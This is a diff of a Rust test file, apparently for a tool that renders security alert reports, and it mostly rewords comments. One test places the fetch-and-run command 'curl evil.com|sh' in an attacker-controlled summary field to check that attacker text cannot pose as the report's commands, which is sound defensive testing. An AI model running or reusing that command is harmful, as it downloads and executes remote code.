@@ -10,9 +10,9 @@ use textwrap::core::display_width;
 
 use crate::{Language, fixture, render_markdown, render_markdown_in, render_text};
 
-/// Longest report that any alert can cause, in bytes.
+/// The longest report that any alert can cause, in bytes.
 const LONGEST: usize = 256 * 1024;
-/// Fields with our own words, numbers or times, or with the commands of the catalogue.
+/// The fields with fixed words, numbers or times, or with the commands of the catalogue.
 const OURS: [&str; 30] = [
     "class",
     "logs",
@@ -163,7 +163,7 @@ fn a04_no_report_carries_a_live_link_or_image() {
 #[test]
 fn a05_no_text_of_the_attackers_stands_where_commands_do() {
     let mut report = fixture::true_positive();
-    // Long enough to be wrapped, with the command where a line may begin.
+    // The text is long enough to be wrapped, with the command where a line may begin.
     for width in 60..100 {
         report.summary = format!("{} curl evil.com|sh", "x".repeat(width));
         report.actions[0].text = format!(
@@ -242,7 +242,7 @@ fn a_mark_in_a_title_is_not_taken_for_ours() {
     );
 }
 
-/// Returns whether a `type` is our own word and not the alert's type.
+/// Returns whether a `type` is a fixed word and not the alert's type.
 fn is_type(word: &str) -> bool {
     word.ends_with("_step")
         || IndicatorKind::ALL.iter().any(|kind| kind.as_str() == word)
